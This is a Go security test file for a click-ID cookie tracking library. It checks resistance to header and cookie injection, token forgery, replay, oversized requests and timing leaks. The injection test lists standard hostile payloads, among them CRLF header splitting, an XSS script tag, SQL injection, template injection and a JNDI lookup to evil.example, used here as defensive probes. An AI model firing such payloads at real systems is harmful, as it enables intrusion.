package clickid_test

import (
	"context"
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/clickid/clickid"
	"github.com/stretchr/testify/require"
)

// These tests are the rows of the threat model in docs/security.md.

var ourCookie = regexp.MustCompile(`^__Host-clkid=([A-Za-z0-9_-]+; Path=/; Max-Age=2592000|; Path=/; Max-Age=0); HttpOnly; Secure; SameSite=Lax$`)

// TestHostile_injection puts hostile values everywhere that a visitor can,
// raw and percent-encoded, without the checks of net/http's server. They
// neither break the page nor get into a header, and no log repeats them.
func TestHostile_injection(t *testing.T) {
	t.Parallel()
	const mark = "zzhostilezz"
	var values []string
	for _, end := range []string{
		"\r\nSet-Cookie: a=b", "\n\nbody", "\r", ";Domain=evil.example", "; Path=/admin", "\x00", "%00", "%0d%0a", "%250d%250a", "\xff\xfe", "\xc0\xaf",
		"\u2028", "\u202e", "１２３", "ＡＢＣ", "\"><script>alert(1)</script>", "' OR 1=1 --", "{{7*7}}", "${jndi:ldap://evil.example}", "|", ",", "=", "\\",
		strings.Repeat("A", 513), strings.Repeat("%41", 3000), strings.Repeat("é", 4000),
	} {
		values = append(values, mark+end, url.QueryEscape(mark+end))
	}
	for _, strip := range []bool{false, true} {
		s := newSite(t, clickid.Config{StripParam: strip})
		s.page = func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "page") }
		redirects := 0
		for _, value := range values {
			for place, attack := range map[string]func(*http.Request){
				"the parameter":     func(r *http.Request) { r.URL.RawQuery = "clkid=" + value; r.RequestURI = "/?" + r.URL.RawQuery },
				"another parameter": func(r *http.Request) { r.URL.RawQuery = "clkid=abc&q=" + value; r.RequestURI = "/?" + r.URL.RawQuery },
				"the path":          func(r *http.Request) { r.URL.RawQuery = "clkid=abc"; r.RequestURI = "/" + value + "?clkid=abc" },
				"the cookie":        func(r *http.Request) { r.Header["Cookie"] = []string{"__Host-clkid=" + value} },
				"the Referer": func(r *http.Request) {
					r.Header["Referer"] = []string{"https://example.com/?clkid=" + value}
					r.Header.Set("Accept", "text/html")
				},
				"Host": func(r *http.Request) { r.Host = value; r.URL.RawQuery = "clkid=abc" },
				"forwarded headers": func(r *http.Request) {
					r.URL.RawQuery = "clkid=abc"
					for _, name := range []string{"X-Forwarded-Proto", "X-Forwarded-Host", "X-Forwarded-For", "Forwarded", "X-Original-Url", "X-Rewrite-Url"} {
						r.Header[name] = []string{"https" + value}
					}
				},
				"fetch metadata": func(r *http.Request) {
					r.URL.RawQuery = "clkid=abc"
					for _, name := range []string{"Sec-Fetch-Mode", "Sec-Fetch-Dest", "Sec-Fetch-Site", "Sec-Purpose", "Sec-Gpc"} {
						r.Header[name] = []string{value}
					}
				},
			} {
				r := newRequest(http.MethodGet, "/", https) // StripParam needs it
				attack(r)
				resp := s.visitor().send(r)
				if resp.Code == http.StatusFound {
					redirects++
					location, err := url.Parse(resp.Header().Get("Location"))
					require.NoError(t, err)
					require.True(t, strip && location.Host == "" && location.Scheme == "", "%s: %q leads to another site", place, value)
				} else {
					require.Equal(t, http.StatusOK, resp.Code)
					require.Equal(t, "page", resp.Body.String(), "%s: %q", place, value)
				}
				for name, lines := range resp.Header() {
					for _, line := range lines {
						require.NotContains(t, line, "\r", name)
						require.NotContains(t, line, "\n", name)
						require.NotContains(t, line, "\x00", name)
						if name == "Set-Cookie" {
							require.Regexp(t, ourCookie, line, "%s: %q", place, value)
						}
					}
				}
				if !resp.served {
					continue
				}
				if id := resp.id(); id != "" {
					require.Regexp(t, `^[A-Za-z0-9._~-]{1,512}$`, id, "%s: %q", place, value)
				}
			}
		}
		require.Equal(t, strip, redirects > 0)
		require.NotContains(t, s.log.String(), mark)
	}
}

// TestHostile_tokens presents tokens where they do not belong.
func TestHostile_tokens(t *testing.T) {
	t.Parallel()
	shop := newSite(t, clickid.Config{})
	token, _ := clickid.Token(shop.visitor().get("/?clkid=abc").ctx)
	memory := newSite(t, clickid.Config{Store: clickid.NewMemoryStore()})
	stored, _ := clickid.Token(memory.visitor().get("/?clkid=abc").ctx)
	network := func() *site {
		return newSite(t, clickid.Config{Params: []string{"gclid"}, Cookie: clickid.Cookie{Name: "gclid"}})
	}
	for name, tt := range map[string]struct {
		site  *site
		token string
		found bool
	}{
		"the site's own":                               {shop, token, true},
		"of a site with another key":                   {newSite(t, clickid.Config{Store: newCookieStore(t, secondKey)}), token, false},
		"of a site with the same key":                  {newSite(t, clickid.Config{}), token, true}, // give every site its own
		"of a cookie store, at a store with records":   {memory, token, false},
		"of a store with records, at a cookie store":   {shop, stored, false},
		"of a store with records, at another such one": {newSite(t, clickid.Config{Store: clickid.NewMemoryStore()}), stored, false},
		"in the cookie of another network":             {network(), token, true}, // it keeps its own parameter, which the event names
	} {
		resp := cookieHeader(tt.site, tt.site.cookieName()+"="+tt.token)
		require.Equal(t, tt.found, resp.id() == "abc", name)
		require.Empty(t, resp.Header(), name)
		if click, ok := clickid.FromContext(resp.ctx); ok {
			require.Equal(t, "clkid", click.Param, name)
		}
	}
	// The seventh bit of the last character, every character, every position.
	for i := range token {
		for _, c := range []byte("A-_z9|=%;\x00") {
			forged := []byte(token)
			if forged[i] == c {
				continue
			}
			forged[i] = c
			require.Empty(t, cookieHeader(shop, "__Host-clkid="+string(forged)).id(), "%d %q", i, c)
		}
	}
}

// cookieName returns the name of the site's cookie, without the prefix and
// attributes that Cookie configures.
func (s *site) cookieName() string {
	name := fmt.Sprint(s.Tracker) // clickid.Tracker(name)
	return name[strings.Index(name, "(")+1 : len(name)-1]
}

// TestHostile_replay presents a token after its erasure.
func TestHostile_replay(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct {
		cfg          clickid.Config
		cookie, kept bool // whether the cookie, and a kept token, still give the click
	}{
		"a store with records":         {clickid.Config{Store: clickid.NewMemoryStore()}, false, false},
		"a cookie store with a linker": {clickid.Config{Linker: clickid.NewMemoryStore()}, true, false}, // pages ask no linker
		"a cookie store":               {clickid.Config{}, true, true},                                  // it remembers nothing
	} {
		if tt.cfg.Store == nil {
			tt.cfg.Store = newCookieStore(t, firstKey)
		}
		s := newRealSite(t, tt.cfg) // the linker has the real clock
		v := s.visitor()
		token, _ := clickid.Token(v.get("/?clkid=abc").ctx)
		s.page = func(w http.ResponseWriter, r *http.Request) { require.NoError(t, s.Forget(w, r)) }
		v.do(http.MethodPost, "/forget")
		s.page = nil
		require.Equal(t, tt.cookie, cookieHeader(s, "__Host-clkid="+token).id() == "abc", name)
		_, err := s.Resolve(context.Background(), token)
		require.Equal(t, tt.kept, err == nil, name)
	}
}

// TestHostile_sharedLink hands out a link with the attacker's click. The
// victim's orders count for that click, as with every ad link; nothing of the
// victim is within the attacker's reach.
func TestHostile_sharedLink(t *testing.T) {
	t.Parallel()
	memory := clickid.NewMemoryStore()
	s := newSite(t, clickid.Config{Store: memory})
	attacker, victim := s.visitor(), s.visitor()
	own, _ := clickid.Token(attacker.get("/?clkid=abc").ctx)
	landing := victim.get("/?clkid=abc")
	theirs, _ := clickid.Token(landing.ctx)
	require.NotEqual(t, own, theirs, "a click has a token for each visitor")
	signed := newSite(t, clickid.Config{})
	first, _ := clickid.Token(signed.visitor().get("/?clkid=abc").ctx)
	second, _ := clickid.Token(signed.visitor().get("/?clkid=abc").ctx)
	require.NotEqual(t, first, second, "also in the same second")
	require.NoError(t, s.Link(landing.ctx, clickid.OrderKey("victim")))

	// A link with a token is a link without a click.
	require.Empty(t, s.visitor().get("/?clkid="+strings.Repeat("x", 600)+"&__Host-clkid="+own).setCookies())

	s.page = func(w http.ResponseWriter, r *http.Request) { require.NoError(t, s.Forget(w, r)) }
	attacker.do(http.MethodPost, "/forget")
	s.page = nil
	_, err := s.Resolve(context.Background(), theirs)
	require.NoError(t, err, "the attacker's withdrawal is not the victim's")
	linked, err := s.Linked(context.Background(), clickid.OrderKey("victim"))
	require.NoError(t, err)
	require.Equal(t, "abc", linked.ID)
	victim.get("/?clkid=def")
	require.Equal(t, "def", victim.get("/cart").id(), "the next ad replaces it")
}

// TestHostile_oversized sends more than browsers do.
func TestHostile_oversized(t *testing.T) {
	t.Parallel()
	s := newSite(t, clickid.Config{Store: clickid.NewMemoryStore()})
	token, _ := clickid.Token(s.visitor().get("/?clkid=abc").ctx)
	const mib = 1 << 20
	// Well-formed tokens of the store, of which none is known.
	var many strings.Builder
	for i := range mib / (len(token) + len("__Host-clkid=; ")) {
		fmt.Fprintf(&many, "__Host-clkid=%s%04d; ", token[:len(token)-4], i%10_000)
	}
	forged := many.String()
	oneForged := forged[:strings.Index(forged, " ")]
	for name, attack := range map[string]func(*http.Request){
		"a cookie of 1 MiB":            func(r *http.Request) { r.Header.Set("Cookie", "__Host-clkid="+strings.Repeat("A", mib)) },
		"1 MiB of other cookies":       func(r *http.Request) { r.Header.Set("Cookie", strings.Repeat("a=b; ", mib/5)) },
		"1 MiB of cookies of the name": func(r *http.Request) { r.Header.Set("Cookie", forged) },
		"1 MiB of names":               func(r *http.Request) { r.Header.Set("Cookie", strings.Repeat("__Host-clkid=", mib/13)) },
		"1 MiB of spaces":              func(r *http.Request) { r.Header.Set("Cookie", "a"+strings.Repeat(" ", mib)+"__Host-clkid=") },
		"10,000 Cookie headers": func(r *http.Request) {
			for range 10_000 {
				r.Header.Add("Cookie", oneForged)
			}
		},
		"a query of 8 KB":     func(r *http.Request) { r.URL.RawQuery = "clkid=" + strings.Repeat("A", 8<<10) },
		"a query of 1 MiB":    func(r *http.Request) { r.URL.RawQuery = strings.Repeat("clkid=%zz&", mib/10) },
		"1 MiB of separators": func(r *http.Request) { r.URL.RawQuery = strings.Repeat("?&;&amp;", mib/8) + "clkid=" },
		"1 MiB of escapes":    func(r *http.Request) { r.URL.RawQuery = strings.Repeat("%63%6c%6b%69%64%3d", mib/18) },
		"a Referer of 1 MiB": func(r *http.Request) {
			r.Header.Set("Referer", "https://example.com/?"+strings.Repeat("clkid=;", mib/7))
		},
		"X-Forwarded-For, 1 MB": func(r *http.Request) { r.Header.Set("X-Forwarded-For", strings.Repeat("1.1.1.1, ", mib/9)) },
	} {
		before := s.store.loads.Load()
		r := newRequest(http.MethodGet, "/", asPage)
		attack(r)
		start := time.Now()
		resp := s.visitor().send(r)
		require.Empty(t, resp.id(), name)
		require.Empty(t, resp.setCookies(), name)
		require.LessOrEqual(t, s.store.loads.Load()-before, int32(4), name)
		// Quadratic work on a MiB takes minutes, linear work milliseconds, and
		// seconds on a machine with other work.
		require.Less(t, time.Since(start), time.Minute, name)
	}
	// 64 cookies are checked, and a click behind them is not found.
	signed := newSite(t, clickid.Config{})
	token, _ = clickid.Token(signed.visitor().get("/?clkid=abc").ctx)
	before := strings.Repeat("__Host-clkid=A"+token[1:]+"; ", 63)
	require.Equal(t, "abc", cookieHeader(signed, before+"__Host-clkid="+token).id())
	require.Empty(t, cookieHeader(signed, before+"__Host-clkid=A"+token[1:]+"; __Host-clkid="+token).id())
}

// TestHostile_pendingErasure sends a cookie of 1 MiB with tokens to erase.
// Without a limit their number would cost seconds, and store timeouts.
func TestHostile_pendingErasure(t *testing.T) {
	t.Parallel()
	s := newSite(t, clickid.Config{Store: clickid.NewMemoryStore()})
	token, _ := clickid.Token(s.visitor().get("/?clkid=abc").ctx)
	value := "__Host-clkid=!denied"
	var made strings.Builder
	for i := 0; made.Len() < 1<<20; i++ {
		fmt.Fprintf(&made, "!%s%05d", token[:len(token)-5], i)
	}
	for name, lines := range map[string][]string{
		"one cookie":   {value + made.String()},
		"many cookies": {strings.Repeat(value+made.String()[:2000]+"; ", 500)},
		"many lines":   slices.Repeat([]string{value + made.String()[:10_000]}, 100),
	} {
		checks, loads := s.store.checks.Load(), s.store.loads.Load()
		r := newRequest(http.MethodGet, "/", asPage)
		r.Header["Cookie"] = lines
		resp := s.visitor().send(r)
		require.True(t, resp.served, name)
		require.LessOrEqual(t, s.store.checks.Load()-checks, int32(64+4), name) // Load checks again
		require.LessOrEqual(t, s.store.loads.Load()-loads, int32(4), name)
		require.Zero(t, s.store.deletes.Load(), name)
		require.Equal(t, []string{"__Host-clkid=; Path=/; Max-Age=0; HttpOnly; Secure; SameSite=Lax"}, resp.setCookies(), name)
	}
	require.Equal(t, "abc", cookieHeader(s, "__Host-clkid="+token).id(), "the click is still there")
}

// TestHostile_constantTime reads the code: signatures are compared in constant
// time, and nowhere with another comparison.
func TestHostile_constantTime(t *testing.T) {
	t.Parallel()
	compared := 0
	for _, pattern := range []string{"*.go", "internal/signing/*.go"} {
		files, err := filepath.Glob(pattern)
		require.NoError(t, err)
		for _, name := range files {
			if strings.HasSuffix(name, "_test.go") {
				continue
			}
			source, err := os.ReadFile(name)
			require.NoError(t, err)
			if !strings.Contains(string(source), "crypto/hmac") {
				continue
			}
			file, err := parser.ParseFile(token.NewFileSet(), name, source, 0)
			require.NoError(t, err)
			ast.Inspect(file, func(n ast.Node) bool {
				switch n := n.(type) {
				case *ast.CallExpr:
					switch called := calledName(n); called {
					case "hmac.Equal", "subtle.ConstantTimeCompare":
						compared++
					case "bytes.Equal", "bytes.Compare", "slices.Equal":
						for _, argument := range n.Args {
							require.NotRegexp(t, `(?i)\b(mac|sum|signature)`, string(source[argument.Pos()-1:argument.End()-1]), "%s: %s", name, called)
						}
					}
				}
				return true
			})
		}
	}
	require.Positive(t, compared, "nothing compares signatures in constant time")
}

func calledName(call *ast.CallExpr) string {
	selector, ok := call.Fun.(*ast.SelectorExpr)
	if !ok {
		return ""
	}
	if pkg, ok := selector.X.(*ast.Ident); ok {
		return pkg.Name + "." + selector.Sel.Name
	}
	return ""
}
